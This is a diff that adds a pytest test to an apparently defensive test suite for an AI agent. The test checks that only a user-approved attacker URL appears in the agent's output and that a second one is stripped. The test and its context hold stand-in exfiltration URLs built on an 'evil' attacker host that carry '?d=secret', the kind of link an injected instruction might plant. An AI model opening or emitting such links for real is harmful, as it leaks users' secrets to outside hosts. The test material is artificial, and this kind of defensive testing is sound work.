@@ -77,6 +77,21 @@ def test_the_digit_opens_it_once_and_the_agent_goes_on(tainted: Line, evil: Atta
     assert evil.paths() == ["/log?d=secret"]
 
 
+def test_an_address_that_was_allowed_may_be_shown(tainted: Line, evil: Attacker) -> None:
+    allowed, other = f"{evil.url}/log?d=secret", f"{evil.url}/other?d=secret"
+
+    def rule(request: Request) -> Step:
+        step = _opens(request, allowed)
+        return says(f"Lu : {allowed} et {other}") if request["messages"][-1]["role"] == "tool" else step
+
+    tainted.model.script(rule)
+    asks(tainted)
+    tainted.says("1")
+    heard = leaves(tainted)
+    assert f"{allowed} et" in heard
+    assert other not in heard
+
+
 @pytest.mark.parametrize("no", ["2", "0", "non", "b"])
 def test_a_no_opens_nothing_and_is_not_asked_again(tainted: Line, evil: Attacker, no: str) -> None:
     asks(tainted)
